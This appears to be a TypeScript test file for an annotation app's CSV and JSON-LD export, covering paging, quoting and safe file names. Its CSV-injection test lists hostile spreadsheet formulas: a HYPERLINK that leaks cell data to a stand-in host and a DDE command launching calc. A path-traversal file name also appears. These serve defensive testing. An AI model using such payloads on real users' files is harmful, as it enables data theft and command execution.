import { expect } from '@open-wc/testing';
import { csvCell, csvRowFromReviewItem, toCsv, type CsvRow } from '../../src/core/csv-export.js';
import { exportFileName, toAnnotationCollection, type EmbeddedAnnotationPage } from '../../src/core/jsonld-export.js';
import type { ReviewItem } from '../../src/sync/protocol.js';
import { ourAnnotation, ourAnnotations } from '../fixtures/import/annotations.js';

/** A small RFC 4180 reader, written apart from the writer, to read the export back. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
      else if (ch === '"') (quoted = false), i++;
      else (cell += ch), i++;
    } else if (ch === '"') {
      if (cell !== '') throw new Error(`a quote inside an unquoted cell at ${i}`);
      (quoted = true), i++;
    } else if (ch === ',') row.push(cell), (cell = ''), i++;
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), (i += 2);
    else if (ch === '\r' || ch === '\n') throw new Error(`a bare line break outside quotes at ${i}`);
    else (cell += ch), i++;
  }
  if (quoted) throw new Error('an unterminated quoted cell');
  if (cell !== '' || row.length > 0) throw new Error('the last row has no CRLF');
  return rows;
}

function pages(first: EmbeddedAnnotationPage): EmbeddedAnnotationPage[] {
  const list: EmbeddedAnnotationPage[] = [];
  for (let page: EmbeddedAnnotationPage | undefined = first; page; page = page.next) list.push(page);
  return list;
}

const row = (over: Partial<CsvRow> = {}): CsvRow => ({
  story: 'The river', quote: 'the water rose', note: '', kind: 'highlight', status: 'new',
  created: '2025-01-01T00:00:00.000Z', modified: '2025-01-01T00:00:00.000Z', reader: 'Reader K7QF', ...over,
});

describe('JSON-LD export', () => {
  it('writes a self-contained AnnotationCollection whose embedded pages hold every annotation in order', () => {
    const annotations = ourAnnotations(2500);
    const doc = toAnnotationCollection(annotations, { label: 'All feedback', id: 'https://news.example.com/plaudit/export' });
    expect(doc).to.include({
      '@context': 'http://www.w3.org/ns/anno.jsonld', type: 'AnnotationCollection', label: 'All feedback', total: 2500,
      id: 'https://news.example.com/plaudit/export',
    });
    const list = pages(doc.first);
    expect(list.map((p) => [p.type, p.startIndex, p.items.length, p.partOf, p.id])).to.deep.equal([
      ['AnnotationPage', 0, 1000, doc.id, `${doc.id}?page=0`],
      ['AnnotationPage', 1000, 1000, doc.id, `${doc.id}?page=1`],
      ['AnnotationPage', 2000, 500, doc.id, `${doc.id}?page=2`],
    ]);
    expect(list[2]).not.to.have.property('next');
    const items = list.flatMap((p) => p.items);
    expect(items).to.deep.equal(annotations);
    items.forEach((item, i) => expect(item).to.equal(annotations[i]));
    // Through text and back, nothing is lost.
    const reread = JSON.parse(JSON.stringify(doc)) as typeof doc;
    expect(pages(reread.first).flatMap((p) => p.items)).to.deep.equal(annotations);
  });

  it('writes an empty first page for no annotations, makes an id when none is given, and refuses a bad page size', () => {
    const doc = toAnnotationCollection([], { label: 'Nothing yet' });
    expect(doc.total).to.equal(0);
    expect(doc.id).to.match(/^urn:uuid:[0-9a-f-]{36}$/);
    expect(doc.first).to.deep.equal({ id: `${doc.id}?page=0`, type: 'AnnotationPage', partOf: doc.id, startIndex: 0, items: [] });
    expect(toAnnotationCollection([ourAnnotation(1)], { label: 'x', id: 'https://x.test/c?story=a' }).first.id).to.equal('https://x.test/c?story=a&page=0');
    const paged = toAnnotationCollection(ourAnnotations(5), { label: 'x', pageSize: 2 });
    expect(pages(paged.first).map((p) => p.startIndex)).to.deep.equal([0, 2, 4]);
    for (const pageSize of [0, -1, 1.5, Number.NaN]) {
      expect(() => toAnnotationCollection([], { label: 'x', pageSize })).to.throw(RangeError);
    }
  });

  it('names export files safely for every file system', () => {
    expect(exportFileName('Notes: "The river" 2025/05', 'jsonld')).to.equal('Notes-The-river-2025-05.jsonld');
    expect(exportFileName('..\\..\\etc/passwd', '.csv')).to.equal('etc-passwd.csv');
    expect(exportFileName('  <>:"|?*  ', 'csv')).to.equal('plaudit-export.csv');
    expect(exportFileName('', 'csv')).to.equal('plaudit-export.csv');
    expect(exportFileName('CON', 'csv')).to.equal('plaudit-CON.csv');
    expect(exportFileName('nul.txt', 'csv')).to.equal('plaudit-nul.txt.csv');
    expect(exportFileName('Café – Überblick 東京', 'csv')).to.equal('Café-Überblick-東京.csv');
    expect(exportFileName('line\nbreak\ttab\u0000nul', 'c s v')).to.equal('line-break-tab-nul.csv');
    expect(exportFileName('😀'.repeat(300), 'jsonld')).to.equal('plaudit-export.jsonld');
    expect(exportFileName('東'.repeat(300), 'jsonld')).to.equal(`${'東'.repeat(100)}.jsonld`);
    expect(exportFileName('a'.repeat(300), 'csv')).to.equal(`${'a'.repeat(100)}.csv`);
  });
});

describe('CSV export', () => {
  it('writes a header row, CRLF line ends and RFC 4180 quoting that reads back exactly', () => {
    const tricky = row({ story: 'Rivers, lakes', quote: 'she said "stop"', note: 'line one\nline two\r\nline three\rend', kind: 'note' });
    const csv = toCsv([row(), tricky]);
    expect(csv.startsWith('Story,Quote,Note,Kind,Status,Created,Modified,Reader\r\n')).to.equal(true);
    expect(csv.endsWith('\r\n')).to.equal(true);
    expect(csv.charCodeAt(0)).not.to.equal(0xfeff);
    expect(csv).to.include('"Rivers, lakes","she said ""stop""","line one\nline two\r\nline three\rend"');
    const rows = readCsv(csv);
    expect(rows).to.have.length(3);
    expect(rows[1]).to.deep.equal(Object.values(row()));
    expect(rows[2]).to.deep.equal(Object.values(tricky));
    expect(toCsv([])).to.equal('Story,Quote,Note,Kind,Status,Created,Modified,Reader\r\n');
  });

  it('starts with a UTF-8 byte order mark when asked, for Excel', async () => {
    const csv = toCsv([row({ note: 'Café 東京' })], { bom: true });
    expect(csv.charCodeAt(0)).to.equal(0xfeff);
    const bytes = new Uint8Array(await new Blob([csv]).arrayBuffer());
    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    expect(readCsv(csv.slice(1))[1]![2]).to.equal('Café 東京');
  });

  it('neutralises every cell that a spreadsheet would read as a formula, numbers in text cells included', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\tx', '\rx', '=1,2', '-5', '＝1+1', '＋1', '－1', '＠SUM(A1)',
    ];
    const rows = readCsv(toCsv(hostile.map((note) => row({ note, quote: note, reader: note }))));
    rows.slice(1).forEach((cells, i) => {
      for (const cell of [cells[1], cells[2], cells[7]]) expect(cell).to.equal(`'${hostile[i]}`);
    });
    // Harmless starts are left alone, also an apostrophe already there, and inner characters.
    for (const safe of ['1+1', 'a=b', " -x", "'=x", 'x\t=y', '5', '']) expect(csvCell(safe)).to.equal(safe);
    expect(csvCell('=A1')).to.equal("'=A1");
    expect(csvCell('=A1,B1')).to.equal(`"'=A1,B1"`);
    expect(csvCell('\r\n=cmd')).to.equal(`"'\r\n=cmd"`);
    expect(csvCell(undefined)).to.equal('');
  });

  it('builds a row from a review item with the pseudonym, never the reader id', () => {
    const annotation = ourAnnotation(1);
    const item: ReviewItem = {
      annotation, etag: '"1"', reader: 'Reader K7QF', storyTitle: 'The river', status: 'reviewed',
      anchor: { status: 'anchored', paragraph: 0, start: 0, end: 1, before: '', after: '' },
    };
    expect(csvRowFromReviewItem(item)).to.deep.equal({
      story: 'The river', quote: 'passage 1 “quoted”, with, commas', note: annotation.body!.value, kind: 'note', status: 'reviewed',
      created: annotation.created, modified: annotation.modified, reader: 'Reader K7QF',
    });
    const highlight = csvRowFromReviewItem({ ...item, annotation: ourAnnotation(0), storyTitle: '' });
    expect(highlight).to.include({ kind: 'highlight', note: '', story: 'story-0' });
    expect(toCsv([highlight])).not.to.include(annotation.creator);
  });
});
